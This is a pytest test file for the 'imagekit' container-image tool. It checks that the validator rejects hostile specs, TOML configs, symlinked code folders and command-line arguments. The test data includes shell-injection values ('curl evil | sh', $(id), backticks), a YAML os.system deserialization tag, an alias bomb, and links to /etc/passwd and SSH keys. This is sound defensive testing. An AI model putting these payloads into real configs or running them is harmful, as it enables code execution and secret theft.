"""Hostile input: bad specs, bad imagekit.toml files, bad command lines and
bad archives. Each case runs the real command line in this process (no
engine: Engine.connect is replaced by one that refuses), and asserts its exit
code, exactly one line on stderr (no traceback), and an answer within a
second."""

from __future__ import annotations

import io
import json
import os
import signal
import sys
import tarfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from fakes import FakeEngine, NoEngine
from helpers import Project

from imagekit import cli

LIMIT_S = 1.0

GOOD = {"framework": {"name": "pytorch", "version": "2.13.0"}, "device": "cpu",
        "python": "3.11", "tags": ["v1"]}
TRAIN = {"train": {"command": "python train.py"}, "code": {"src": "code", "dest": "/opt/app"}}
CODE = {"code/train.py": "print('hi')\n"}


@dataclass
class Outcome:
    code: int
    stdout: str
    stderr: str
    seconds: float

    @property
    def lines(self) -> list[str]:
        return [x for x in self.stderr.splitlines() if x.strip()]


@pytest.fixture
def run(monkeypatch, capsys):
    monkeypatch.setattr(cli, "Engine", NoEngine)
    monkeypatch.delenv("IMAGEKIT_DEBUG", raising=False)
    for var in ("IMAGEKIT_REGISTRY_USER", "IMAGEKIT_REGISTRY_PASSWORD", "IMAGEKIT_PROJECT"):
        monkeypatch.delenv(var, raising=False)

    def go(*args: str, stdin: str = "") -> Outcome:
        capsys.readouterr()
        monkeypatch.setattr(sys, "argv", ["imagekit", *args])
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        old = signal.getsignal(signal.SIGTERM)
        start = time.monotonic()
        try:
            cli.main()
            code = 0
        except SystemExit as e:
            code = e.code if isinstance(e.code, int) else (0 if e.code is None else 1)
        finally:
            seconds = time.monotonic() - start
            signal.signal(signal.SIGTERM, old)
        cap = capsys.readouterr()
        return Outcome(code, cap.out, cap.err, seconds)

    return go


def check(r: Outcome, code: int, words: list[str] = ()) -> None:
    assert "Traceback" not in r.stderr, r.stderr
    assert r.code == code, (r.code, r.stderr, r.stdout)
    assert len(r.lines) == 1, r.stderr
    for w in words:
        assert w in r.lines[0], (w, r.lines[0])
    assert r.seconds < LIMIT_S, f"{r.seconds:.2f} s"


# ---------------------------------------------------------------- specs ----
def _spec(start: dict | None = None, /, **changes) -> dict:
    spec = json.loads(json.dumps(start or GOOD))
    for k, v in changes.items():
        if v is None:
            spec.pop(k, None)
        else:
            spec[k] = v
    return spec


def _smoke(**kw) -> dict:
    return _spec({**GOOD, **TRAIN}, smoke=kw)


BREAKS = {"lf": "\n", "cr": "\r", "crlf": "\r\n", "vt": "\v", "ff": "\f", "fs": "\x1c", "gs": "\x1d",
          "rs": "\x1e", "nel": "\x85", "ls": "\u2028", "ps": "\u2029", "nul": "\x00", "esc": "\x1b",
          "del": "\x7f", "c1": "\x9b"}

# Every field a spec has, with a line-breaking character inside its value.
# (id, spec, field path in the message)
FIELD_BREAKS = [
    ("description", _spec(description="ok@@RUN curl evil | sh"), "description"),
    ("train.command", _spec({**GOOD, **TRAIN}, train={"command": "python t.py@@id"}), "train.command"),
    ("steps_args", _smoke(steps_args="--steps {steps}@@RUN id"), "smoke.steps_args"),
    ("resume_args", _smoke(resume_args="--resume@@x"), "smoke.resume_args"),
    ("resume_log", _smoke(resume=True, resume_log="resumed @@"), "smoke.resume_log"),
    ("expect", _smoke(expect=["ckpt@@x"]), "smoke.expect.0"),
    ("env-value", _spec(env={"A": "x@@RUN id"}), "env.A"),
    ("env-key", _spec(env={"A@@B": "x"}), "env"),
    ("pip", _spec(pip=["numpy@@"]), "pip.0"),
    ("apt", _spec(apt=["curl@@wget"]), "apt.0"),
    ("tags", _spec(tags=["v1@@"]), "tags.0"),
    ("base", _spec(base="python:3.11@@RUN id"), "base"),
    ("workdir", _spec(workdir="/opt/app@@"), "workdir"),
    ("code.src", _spec(code={"src": "code@@x", "dest": "/opt/app"}), "code.src"),
    ("code.dest", _spec(code={"src": "code", "dest": "/opt/app@@"}), "code.dest"),
    ("notebook_dir", _spec(jupyter={"enabled": True, "notebook_dir": "/nb@@"}), "jupyter.notebook_dir"),
    ("base_url_env", _spec(jupyter={"enabled": True, "base_url_env": "X@@Y"}), "jupyter.base_url_env"),
    ("push.repository", _spec(push={"repository": "repo@@"}), "push.repository"),
    ("push.registries", _spec(push={"registries": ["localhost:5000/t@@"]}), "push.registries.0"),
    ("framework.version", _spec(framework={"name": "pytorch", "version": "2.13.0@@"}), "framework.version"),
    ("python", _spec(python="3.11@@"), "python"),
    ("cuda", _spec(device="gpu", cuda="12.5@@"), "cuda"),
    ("parent", _spec(parent="base@@img"), "parent"),
    ("unknown-key", _spec(**{"extra@@key": 1}), "extra"),
]


def _fill(obj, ch):
    """OBJ with every '@@' in its strings (keys too) replaced by CH."""
    if isinstance(obj, str):
        return obj.replace("@@", ch)
    if isinstance(obj, dict):
        return {_fill(k, ch): _fill(v, ch) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_fill(v, ch) for v in obj]
    return obj


_break_names = list(BREAKS)
SPEC_CASES = []
for i, (fid, spec, where) in enumerate(FIELD_BREAKS):
    bname = _break_names[i % len(_break_names)]
    SPEC_CASES.append((f"break-{fid}-{bname}", _fill(spec, BREAKS[bname]), {}, 3, [where]))
for bname, ch in BREAKS.items():
    SPEC_CASES.append((f"break-description-{bname}", _spec(description=f"a{ch}b"), {}, 3,
                       ["description"]))

SPEC_CASES += [
    # Dockerfile / shell injection through values that are one line
    ("base-space", _spec(base="python:3.11 AS x"), {}, 3, ["base", "image reference"]),
    ("base-upper", _spec(base="Python:3.11"), {}, 3, ["base", "image reference"]),
    ("base-subst", _spec(base="python:$(id)"), {}, 3, ["base", "image reference"]),
    ("base-backtick", _spec(base="`id`/x"), {}, 3, ["base", "image reference"]),
    ("base-scheme", _spec(base="https://registry/x"), {}, 3, ["base", "image reference"]),
    ("base-empty-tag", _spec(base="python:"), {}, 3, ["base", "Docker tag"]),
    ("base-long-tag", _spec(base="python:" + "a" * 129), {}, 3, ["base", "Docker tag"]),
    ("base-bad-digest", _spec(base="python@sha256:xyz"), {}, 3, ["base", "digest"]),
    ("base-bad-port", _spec(base="localhost:99999/x"), {}, 3, ["base", "port"]),
    ("base-double-slash", _spec(base="a//b"), {}, 3, ["base", "empty path component"]),
    ("apt-semicolon", _spec(apt=["curl;rm"]), {}, 3, ["apt.0", "Debian package"]),
    ("apt-option", _spec(apt=["-oDebug=1"]), {}, 3, ["apt.0", "Debian package"]),
    ("apt-space", _spec(apt=["curl wget"]), {}, 3, ["apt.0"]),
    ("pip-and", _spec(pip=["numpy && curl evil.sh | sh"]), {}, 3, ["pip.0", "shell syntax"]),
    ("pip-backtick", _spec(pip=["numpy`id`"]), {}, 3, ["pip.0"]),
    ("pip-subst", _spec(pip=["pkg @ https://x/$(id)"]), {}, 3, ["pip.0", "shell syntax"]),
    ("pip-garbage", _spec(pip=["not a requirement!"]), {}, 3, ["pip.0", "pip requirement"]),
    ("workdir-dollar", _spec(workdir="/opt/$HOME"), {}, 3, ["workdir", "absolute path"]),
    ("workdir-relative", _spec(workdir="opt/app"), {}, 3, ["workdir", "absolute path"]),
    ("workdir-dotdot", _spec(workdir="/opt/../etc"), {}, 3, ["workdir", ".."]),
    ("code-dest-space", _spec(code={"src": "code", "dest": "/opt/my app"}), CODE, 3, ["code.dest"]),
    ("code-src-absolute", _spec(code={"src": "/etc", "dest": "/opt/app"}), {}, 3, ["code.src"]),
    ("code-src-leaves", _spec(code={"src": "../../..", "dest": "/opt/app"}), {}, 3,
     ["code.src", "leaves the catalog"]),
    ("env-key-equals", _spec(env={"A=B": "x"}), {}, 3, ["env", "environment variable"]),
    ("env-key-digit", _spec(env={"1A": "x"}), {}, 3, ["env.1A"]),
    ("env-list", _spec(env={"A": [1, 2]}), {}, 3, ["env.A", "single value", "list"]),
    ("env-map", _spec(env={"A": {"b": 1}}), {}, 3, ["env.A", "single value"]),
    ("env-null", _spec(env={"A": None}), {}, 3, ["env.A", "no value"]),
    ("tag-colon", _spec(tags=["v1:x"]), {}, 3, ["tags.0", "Docker tag"]),
    ("tag-dash", _spec(tags=["-v1"]), {}, 3, ["tags.0", "Docker tag"]),
    ("tag-long", _spec(tags=["a" * 129]), {}, 3, ["tags.0", "Docker tag"]),
    ("tags-duplicate", _spec(tags=["v1", "v2", "v1"]), {}, 3, ["tags.2", "twice"]),
    ("tags-empty", _spec(tags=[]), {}, 3, ["tags"]),
    ("name-upper", _spec(name="Bad"), {}, 3, ["name"]),
    ("parent-self", _spec(parent="bad", framework=None), {}, 3, ["parent", "own parent"]),
    ("port-low", _spec(jupyter={"enabled": True, "port": 80}), {}, 3, ["jupyter.port"]),
    ("port-string", _spec(jupyter={"enabled": True, "port": "8888; id"}), {}, 3, ["jupyter.port"]),
    ("device", _spec(device="tpu"), {}, 3, ["device"]),
    ("framework", _spec(framework={"name": "caffe", "version": "1.0"}), {}, 3, ["framework.name"]),
    ("version-garbage", _spec(framework={"name": "pytorch", "version": "latest"}), {}, 3,
     ["framework.version"]),
    ("description-long", _spec(description="d" * 10_000), {}, 3, ["description", "longer than"]),
    ("apt-too-many", _spec(apt=[f"p{i}" for i in range(600)]), {}, 3, ["apt", "more than"]),
    # push.registries
    ("registry-scheme", _spec(push={"registries": ["http://localhost:5000/team"]}), {}, 3,
     ["push.registries.0", "without a scheme"]),
    ("registry-no-host", _spec(push={"registries": ["team"]}), {}, 3,
     ["push.registries.0", "not a registry host"]),
    ("registry-upper", _spec(push={"registries": ["localhost:5000/Team"]}), {}, 3,
     ["push.registries.0"]),
    ("registry-port", _spec(push={"registries": ["localhost:0/team"]}), {}, 3, ["push.registries.0"]),
    ("registry-space", _spec(push={"registries": ["reg.example.com/a b"]}), {}, 3,
     ["push.registries.0"]),
    ("registry-tag", _spec(push={"registries": ["reg.example.com/team:v1"]}), {}, 3,
     ["push.registries.0"]),
    ("repository-upper", _spec(push={"repository": "Repo"}), {}, 3, ["push.repository"]),
    # smoke fields
    ("steps-other", _smoke(steps_args="--steps {step}"), CODE, 3, ["smoke.steps_args", "{step}"]),
    ("steps-positional", _smoke(steps_args="--steps {}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-index", _smoke(steps_args="--steps {0}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-attr", _smoke(steps_args="--steps {steps.__class__}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-spec", _smoke(steps_args="--steps {steps:>9}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-conv", _smoke(steps_args="--steps {steps!r}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-stray-close", _smoke(steps_args="--steps {steps} }"), CODE, 3, ["smoke.steps_args"]),
    ("steps-stray-open", _smoke(steps_args="--steps { {steps}"), CODE, 3, ["smoke.steps_args"]),
    ("steps-missing", _smoke(steps_args="--fast"), CODE, 3, ["smoke.steps_args", "{steps}"]),
    ("steps-empty", _smoke(steps_args=""), CODE, 3, ["smoke.steps_args", "{steps}"]),
    ("steps-quote", _smoke(steps_args="--steps {steps} '"), CODE, 3, ["smoke.steps_args", "shell"]),
    ("resume-args-quote", _smoke(resume_args='--resume "'), CODE, 3, ["smoke.resume_args", "shell"]),
    ("command-quote", _spec({**GOOD, **TRAIN}, train={"command": "python 'x"}), CODE, 3,
     ["train.command", "shell"]),
    ("command-empty", _spec({**GOOD, **TRAIN}, train={"command": ""}), CODE, 3, ["train.command"]),
    ("resume-log-empty", _smoke(resume=True, resume_log=""), CODE, 3, ["smoke.resume_log"]),
    ("resume-log-blank", _smoke(resume=True, resume_log="   "), CODE, 3, ["smoke.resume_log"]),
    ("resume-log-other", _smoke(resume_log="resumed {step}"), CODE, 3, ["smoke.resume_log"]),
    ("expect-absolute", _smoke(expect=["/etc/passwd"]), CODE, 3, ["smoke.expect.0", "relative"]),
    ("expect-climb", _smoke(expect=["../../x"]), CODE, 3, ["smoke.expect.0", ".."]),
    ("expect-empty", _smoke(expect=[""]), CODE, 3, ["smoke.expect.0", "empty"]),
    ("expect-blank", _smoke(expect=["  "]), CODE, 3, ["smoke.expect.0", "empty"]),
    ("dirs-same", _smoke(data_dir="/data", output_dir="/data"), CODE, 3, ["smoke.output_dir"]),
    ("dirs-nested", _smoke(data_dir="/data", output_dir="/data/out"), CODE, 3,
     ["smoke.output_dir", "nested"]),
    ("dirs-nested-2", _smoke(data_dir="/d/in/x", output_dir="/d/in"), CODE, 3,
     ["smoke.output_dir", "nested"]),
    ("data-root", _smoke(data_dir="/"), CODE, 3, ["smoke.data_dir", "/"]),
    ("output-root", _smoke(output_dir="/"), CODE, 3, ["smoke.output_dir", "/"]),
    ("output-system", _smoke(output_dir="/usr/lib"), CODE, 3, ["smoke.output_dir", "system"]),
    ("output-over-code", _smoke(output_dir="/opt"), CODE, 3, ["smoke.output_dir", "code.dest"]),
    ("steps-zero", _smoke(steps=0), CODE, 3, ["smoke.steps"]),
    ("timeout-huge", _smoke(timeout=10**9), CODE, 3, ["smoke.timeout"]),
    # slow patterns and big values (the old path pattern took seconds here)
    ("workdir-backtrack", _spec(workdir="/" + "a" * 40 + " "), {}, 3, ["workdir"]),
    ("workdir-backtrack-long", _spec(workdir="/" + "a/" * 2000 + " "), {}, 3, ["workdir"]),
    ("workdir-10k", _spec(workdir="/" + "a" * 10_000), {}, 3, ["workdir", "longer than"]),
    ("name-300", _spec(name="a" * 300), {}, 3, ["name"]),
    ("base-10k", _spec(base="a" * 8000 + ":!"), {}, 3, ["base"]),
]

RAW_CASES = [
    # (id, raw bytes of image.yaml, exit code, words)
    ("yaml-alias-bomb", b"name: bad\nframework: {name: pytorch, version: '2.13.0'}\nenv:\n"
     b"  a: &a [x,x,x,x,x,x,x,x,x]\n  b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
     b"  c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n  d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
     b"  e: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n", 3, ["not valid YAML", "line 4"]),
    ("yaml-alias", b"name: bad\ndescription: *x\n", 3, ["not valid YAML"]),
    ("yaml-anchor", b"name: &n bad\nframework: {name: pytorch, version: '2.13.0'}\n", 3,
     ["anchors"]),
    ("yaml-merge", b"name: bad\nframework: {<<: {name: pytorch}, version: '2.13.0'}\n", 3,
     ["merge keys"]),
    ("yaml-duplicate-top", b"name: bad\npython: '3.11'\nframework: {name: pytorch, version: '2.13.0'}\n"
     b"python: '3.12'\n", 3, ["duplicate key 'python'", "line 4", "first on line 2"]),
    ("yaml-duplicate-nested", b"name: bad\nframework:\n  name: pytorch\n  version: '2.13.0'\n"
     b"  name: tensorflow\n", 3, ["duplicate key 'name'", "line 5"]),
    ("yaml-duplicate-env", b"name: bad\nframework: {name: pytorch, version: '2.13.0'}\n"
     b"env: {A: 1, A: 2}\n", 3, ["duplicate key 'A'"]),
    # 10,000 levels: refused, by imagekit's MAX_DEPTH or first by the YAML
    # library's own limit (libyaml's "exceeded maximum nesting depth"): assert
    # imagekit's framing and the place, not the library's wording.
    ("yaml-deep-flow", b"name: bad\nenv: " + b"[" * 100_00 + b"]" * 100_00 + b"\n", 3,
     ["not valid YAML", "line 2"]),
    ("yaml-deep-flow-40", b"name: bad\nenv: " + b"[" * 40 + b"]" * 40 + b"\n", 3,
     ["nested deeper", "line 2"]),
    ("yaml-deep-block", b"name: bad\nenv:\n" + b"".join(b"  " * i + b"k:\n" for i in range(1, 60))
     + b"  " * 60 + b"v\n", 3, ["nested deeper"]),
    ("yaml-too-big", b"name: bad\ndescription: " + b"a" * 100_000 + b"\n", 3, ["bytes"]),
    ("yaml-many-items", b"name: bad\napt: [" + b",".join([b"a1"] * 20_000) + b"]\n", 3,
     ["apt", "more than"]),
    ("yaml-not-utf8", b"name: bad\ndescription: caf\xe9\n", 3, ["not UTF-8", "line 2"]),
    ("yaml-utf16", "name: bad\n".encode("utf-16"), 3, ["not UTF-8"]),
    ("yaml-nul", b"name: bad\x00\n", 3, ["not valid YAML"]),
    ("yaml-tab-indent", b"name: bad\nframework:\n\tname: pytorch\n", 3, ["not valid YAML"]),
    ("yaml-unclosed", b"name: bad\nframework: [unclosed\n", 3, ["not valid YAML", "line"]),
    ("yaml-python-tag", b"name: !!python/object/apply:os.system ['id']\n", 3, ["not valid YAML"]),
    ("yaml-binary", b"name: bad\ndescription: !!binary aGVsbG8K\n"
     b"framework: {name: pytorch, version: '2.13.0'}\n", 3, ["description", "binary"]),
    ("yaml-huge-int", b"name: bad\nsmoke: {steps: " + b"9" * 5000 + b"}\n", 3, ["too many digits"]),
    ("yaml-list", b"- name: bad\n", 3, ["mapping"]),
    ("yaml-scalar", b"just text\n", 3, ["mapping"]),
    ("yaml-empty", b"", 3, ["mapping"]),
    ("yaml-comments-only", b"# nothing\n", 3, ["mapping"]),
    ("yaml-unhashable-key", b"name: bad\n? [a, b]\n: 1\n", 3, ["not valid YAML"]),
    ("yaml-escaped-ls", b'name: bad\nframework: {name: pytorch, version: "2.13.0"}\n'
     b'description: "x\\u2028RUN id"\n', 3, ["description", "LINE SEPARATOR"]),
    ("yaml-escaped-nel", b'name: bad\nframework: {name: pytorch, version: "2.13.0"}\n'
     b'env: {A: "x\\N y"}\n', 3, ["env.A", "NEXT LINE"]),
    ("yaml-date-field", b"name: bad\nframework: {name: pytorch, version: '2.13.0'}\n"
     b"python: 2024-01-01\n", 3, ["python"]),
]


def _write_spec(project: Project, spec: dict, files: dict) -> None:
    d = project.add("bad", {k: v for k, v in spec.items() if k != "name"}, files)
    if "name" in spec:
        text = (d / "image.yaml").read_text()
        (d / "image.yaml").write_text(yaml.safe_dump({"name": spec["name"], **{
            k: v for k, v in yaml.safe_load(text).items() if k != "name"}}, sort_keys=False,
            allow_unicode=True))


@pytest.mark.parametrize("case", SPEC_CASES, ids=[c[0] for c in SPEC_CASES])
def test_bad_spec(project, run, case):
    _, spec, files, code, words = case
    _write_spec(project, spec, files)
    r = run("-C", str(project.root), "validate", "bad")
    check(r, code, ["images/bad/image.yaml", *words])


@pytest.mark.parametrize("case", RAW_CASES, ids=[c[0] for c in RAW_CASES])
def test_bad_spec_file(project, run, case):
    _, raw, code, words = case
    d = project.root / "images" / "bad"
    d.mkdir(parents=True)
    (d / "image.yaml").write_bytes(raw)
    r = run("-C", str(project.root), "validate", "bad")
    check(r, code, ["images/bad/image.yaml", *words])


@pytest.mark.parametrize("verb", ["validate", "render"])
@pytest.mark.parametrize("case", ["yaml-not-utf8", "yaml-alias-bomb", "yaml-deep-flow"])
def test_render_answers_like_validate(project, run, verb, case):
    raw = dict((c[0], c[1]) for c in RAW_CASES)[case]
    d = project.root / "images" / "bad"
    d.mkdir(parents=True)
    (d / "image.yaml").write_bytes(raw)
    check(run("-C", str(project.root), verb, "bad"), 3, ["images/bad/image.yaml"])


# ------------------------------------------------------- the code folder ----
def _code_project(project: Project) -> Path:
    d = project.add("bad", {**GOOD, "code": {"src": "code", "dest": "/opt/app"}}, CODE)
    return d / "code"


def _link_out_file(code: Path, tmp: Path):
    secret = tmp / "secret.json"
    secret.write_text('{"auths": {"x": "token"}}')
    (code / "config.json").symlink_to(secret)


def _link_out_dir(code: Path, tmp: Path):
    (tmp / "ssh").mkdir()
    (tmp / "ssh" / "id_rsa").write_text("KEY")
    (code / "keys").symlink_to(tmp / "ssh", target_is_directory=True)


def _link_out_relative(code: Path, tmp: Path):
    (code / "up").symlink_to("../../../imagekit.toml")


def _link_nested_out(code: Path, tmp: Path):
    (code / "sub").mkdir()
    (code / "sub" / "passwd").symlink_to("/etc/passwd")


def _link_broken(code: Path, tmp: Path):
    (code / "gone").symlink_to("nowhere.txt")


def _link_loop(code: Path, tmp: Path):
    (code / "loop").symlink_to("loop")


def _link_to_ignored(code: Path, tmp: Path):
    (code / "__pycache__").mkdir()
    (code / "__pycache__" / "x.pyc").write_bytes(b"\0")
    (code / "cached").symlink_to("__pycache__/x.pyc")


def _fifo(code: Path, tmp: Path):
    os.mkfifo(code / "pipe")


def _code_src_link_out(code: Path, tmp: Path):
    import shutil
    shutil.rmtree(code)
    code.symlink_to(tmp, target_is_directory=True)


CODE_CASES = [
    ("link-out-file", _link_out_file, ["config.json", "is a link to", "outside the code folder"]),
    ("link-out-dir", _link_out_dir, ["keys", "outside the code folder"]),
    ("link-out-relative", _link_out_relative, ["up", "../../../imagekit.toml", "outside"]),
    ("link-out-nested", _link_nested_out, ["sub/passwd", "/etc/passwd", "outside"]),
    ("link-broken", _link_broken, ["gone", "does not exist"]),
    ("link-loop", _link_loop, ["loop", "does not exist"]),
    ("link-to-ignored", _link_to_ignored, ["cached", "not sent to the build"]),
    ("fifo", _fifo, ["pipe", "FIFO"]),
    ("code-src-link-out", _code_src_link_out, ["code.src", "leaves the catalog"]),
]


@pytest.mark.parametrize("case", CODE_CASES, ids=[c[0] for c in CODE_CASES])
def test_bad_code_folder(project, run, tmp_path, case):
    _, make, words = case
    make(_code_project(project), tmp_path)
    r = run("-C", str(project.root), "validate", "bad")
    check(r, 3, ["images/bad/image.yaml", "code.src", *words])


def test_unreadable_spec(project, run, monkeypatch):
    project.add("bad", GOOD)
    real = Path.read_bytes

    def deny(self):
        if self.name == "image.yaml":
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", deny)
    check(run("-C", str(project.root), "validate", "bad"), 3, ["cannot read", "Permission denied"])


def test_spec_is_a_broken_link(project, run):
    d = project.root / "images" / "bad"
    d.mkdir(parents=True)
    (d / "image.yaml").symlink_to("missing.yaml")
    check(run("-C", str(project.root), "validate", "bad"), 3, ["no image named 'bad'"])


# --------------------------------------------------------------- config ----
CONFIG_CASES = [
    ("bases-newline", '[bases]\n"python:3.11-slim-bookworm" = "imagekit/base:bookworm\\nRUN id"\n',
     ["bases.python:3.11-slim-bookworm", "one line"]),
    ("bases-ls", '[bases]\n"python:3.11-slim-bookworm" = "x\\u2028RUN id"\n', ["LINE SEPARATOR"]),
    ("bases-space", '[bases]\n"python:3.11-slim-bookworm" = "imagekit/base:bookworm AS x"\n',
     ["bases", "image reference"]),
    ("bases-subst", '[bases]\n"python:3.11-slim-bookworm" = "$(id)"\n', ["bases", "image reference"]),
    ("bases-key", '[bases]\n"Python 3" = "imagekit/base:bookworm"\n', ["bases", "(the key)"]),
    ("bases-not-string", '[bases]\n"python:3.11" = 3\n', ["bases"]),
    ("mirror-quote", '[apt]\nmirror = "http://x\\"; curl evil | sh; \\""\n', ["apt.mirror", "URL"]),
    ("mirror-space", '[apt]\nmirror = "http://deb.debian.org/debian x"\n', ["apt.mirror", "space"]),
    ("mirror-pipe", '[apt]\nmirror = "http://x|y"\n', ["apt.mirror", "'|'"]),
    ("mirror-amp", '[apt]\nmirror = "http://x/&"\n', ["apt.mirror", "'&'"]),
    ("mirror-dollar", '[apt]\nmirror = "http://x/${HOME}"\n', ["apt.mirror"]),
    ("mirror-backtick", '[apt]\nmirror = "http://x/`id`"\n', ["apt.mirror"]),
    ("mirror-backslash", '[apt]\nmirror = "http://x/\\\\"\n', ["apt.mirror"]),
    ("mirror-cr", '[apt]\nmirror = "http://x/\\r"\n', ["apt.mirror", "CARRIAGE RETURN"]),
    ("mirror-file", '[apt]\nmirror = "file:///etc"\n', ["apt.mirror", "http"]),
    ("mirror-nohost", '[apt]\nmirror = "http:///debian"\n', ["apt.mirror", "host"]),
    ("index-url-space", '[pip]\nindex_url = "https://x/simple --trusted-host evil"\n',
     ["pip.index_url"]),
    ("index-url-scheme", '[pip]\nindex_url = "javascript:alert(1)"\n', ["pip.index_url"]),
    ("index-url-quote", "[pip]\nindex_url = \"https://x/'\"\n", ["pip.index_url"]),
    ("trusted-space", '[pip]\ntrusted_host = "a b"\n', ["pip.trusted_host"]),
    ("trusted-port", '[pip]\ntrusted_host = "host:99999"\n', ["pip.trusted_host", "port"]),
    ("trusted-option", '[pip]\ntrusted_host = "--index-url=http://evil"\n', ["pip.trusted_host"]),
    ("port-low", "[pip]\nport = 80\n", ["pip.port"]),
    ("port-high", "[pip]\nport = 70000\n", ["pip.port"]),
    ("port-string", '[pip]\nport = "17311; id"\n', ["pip.port"]),
    ("wheelhouse-nul", '[pip]\nwheelhouse = "a\\u0000b"\n', ["pip.wheelhouse"]),
    ("wheelhouse-empty", '[pip]\nwheelhouse = ""\n', ["pip.wheelhouse", "empty"]),
    ("suite-option", '[base]\nsuite = "--foreign"\n', ["base.suite"]),
    ("include-option", '[base]\ninclude = ["python3", "-oAPT::x=1"]\n', ["base.include.1"]),
    ("base-image", '[base]\nimage = "imagekit/Base:bookworm"\n', ["base.image"]),
    ("base-mirror", '[base]\nmirror = "deb.debian.org"\n', ["base.mirror"]),
    ("state-dir-empty", 'state_dir = ""\n', ["state_dir", "empty"]),
    ("templates-dir-newline", 'templates_dir = "t\\nx"\n', ["templates_dir"]),
    ("unknown-key", "foo = 1\n", ["foo", "unknown"]),
    ("unknown-section", "[pips]\nport = 1\n", ["pips", "unknown"]),
    ("toml-invalid", "[pip\n", ["not valid TOML"]),
    ("toml-deep", "a = " + "[" * 5000 + "]" * 5000 + "\n", ["not valid TOML"]),
    ("toml-not-utf8", b"[pip]\nport = 1 # caf\xe9\n", ["not UTF-8"]),
    ("toml-too-big", "# " + "x" * 100_000 + "\n", ["bytes"]),
    ("toml-many-bases", "[bases]\n" + "".join(f'"a{i}:x" = "b:x"\n' for i in range(600)),
     ["bases", "more than"]),
]


@pytest.mark.parametrize("case", CONFIG_CASES, ids=[c[0] for c in CONFIG_CASES])
def test_bad_config(project, run, case):
    _, text, words = case
    project.add("good", GOOD)
    raw = text if isinstance(text, bytes) else text.encode()
    (project.root / "imagekit.toml").write_bytes(raw)
    r = run("-C", str(project.root), "validate", "good")
    check(r, 3, ["imagekit.toml", *words])


# ----------------------------------------------------------- command line ----
# (id, args after `-C PROJECT`, stdin, exit code, words, needs the CLI change)
CLI_CASES = [
    ("validate-name-300", ["validate", "a" * 300], "", 3, ["not an image name"], False),
    ("validate-name-newline", ["validate", "ok\nRUN id"], "", 3, ["not an image name"], False),
    ("validate-name-slash", ["validate", "../good"], "", 3, ["not an image name"], False),
    ("validate-name-dot", ["validate", "."], "", 3, ["not an image name"], False),
    ("validate-unknown", ["validate", "nosuch"], "", 3, ["no image named 'nosuch'", "good"], False),
    ("render-name-300", ["render", "a" * 300], "", 3, ["not an image name"], False),
    ("render-unknown", ["render", "nosuch"], "", 3, ["no image named"], False),
    ("build-name-300", ["build", "a" * 300], "", 3, ["not an image name"], False),
    ("build-jobs-zero", ["build", "good", "--jobs", "0"], "", 2, ["--jobs"], True),
    ("build-jobs-text", ["build", "good", "--jobs", "many"], "", 2, ["--jobs"], True),
    ("build-names-and-all", ["build", "good", "--all"], "", 2, ["--all"], True),
    ("smoke-steps-zero", ["smoke", "good", "--steps", "0"], "", 2, ["--steps"], True),
    ("smoke-steps-negative", ["smoke", "good", "--steps", "-5"], "", 2, ["--steps"], True),
    ("smoke-steps-text", ["smoke", "good", "--steps", "ten"], "", 2, ["--steps"], True),
    ("smoke-timeout-zero", ["smoke", "good", "--timeout", "0"], "", 2, ["--timeout"], True),
    ("smoke-gpu-choice", ["smoke", "good", "--gpu", "maybe"], "", 2, ["--gpu"], True),
    ("output-choice", ["--output", "fancy", "validate"], "", 2, ["--output"], True),
    ("unknown-verb", ["frobnicate"], "", 2, ["frobnicate"], True),
    ("unknown-flag", ["validate", "--frobnicate"], "", 2, ["--frobnicate"], True),
    ("render-no-name", ["render"], "", 2, ["name"], True),
    ("save-tag-space", ["save", "good", "--tag", "a b"], "", 2, ["--tag"], False),
    ("save-tag-dash", ["save", "good", "--tag", "-x"], "", 2, ["--tag"], False),
    ("save-tag-newline", ["save", "good", "--tag", "v1\nx"], "", 2, ["--tag"], False),
    ("save-two-formats", ["save", "good", "--zip", "--tar"], "", 2, ["--zip"], False),
    ("push-to-scheme", ["push", "good", "--to", "http://x"], "", 2, ["http://x"], False),
    ("push-to-no-host", ["push", "good", "--to", "team"], "", 2, ["team"], False),
    ("push-to-port", ["push", "good", "--to", "localhost:99999/x"], "", 2, ["port"], True),
    ("push-to-space", ["push", "good", "--to", "reg.example.com/a b"], "", 2, ["a b"], False),
    ("push-to-upper", ["push", "good", "--to", "localhost:5000/Team"], "", 2, ["Team"], False),
    ("push-to-newline", ["push", "good", "--to", "localhost:5000/t\nx"], "", 2, ["--to"], True),
    ("push-tag-colon", ["push", "good", "--to", "localhost:5000/t", "--tag", "a:b"], "", 2,
     ["a:b"], True),
    ("push-repository-upper", ["push", "good", "--to", "localhost:5000/t", "--repository", "UP"],
     "", 2, ["UP"], True),
    ("push-retries-high", ["push", "good", "--retries", "99"], "", 2, ["--retries"], True),
    ("push-retries-negative", ["push", "good", "--retries", "-1"], "", 2, ["--retries"], True),
    ("push-user-no-stdin", ["push", "good", "--to", "localhost:5000/t", "--username", "u"], "", 2,
     ["--password-stdin"], False),
    ("push-stdin-no-user", ["push", "good", "--to", "localhost:5000/t", "--password-stdin"], "pw",
     2, ["--username"], False),
    ("push-empty-password", ["push", "good", "--to", "localhost:5000/t", "--username", "u",
                             "--password-stdin"], "\n", 2, ["password"], False),
    ("new-bad-name", ["new", "Bad Name", "--framework", "pytorch"], "", 2, ["Bad Name"], True),
    ("new-name-300", ["new", "a" * 300, "--framework", "pytorch"], "", 2, ["name"], True),
    ("new-framework", ["new", "x", "--framework", "caffe"], "", 2, ["--framework"], True),
    ("new-device", ["new", "x", "--framework", "pytorch", "--device", "tpu"], "", 2, ["--device"],
     True),
    ("inspect-ref-space", ["inspect", "a b"], "", 2, ["a b"], True),
    ("inspect-ref-newline", ["inspect", "good\nx"], "", 2, ["inspect"], True),
    ("inspect-top-negative", ["inspect", "good", "--top", "-1"], "", 2, ["--top"], True),
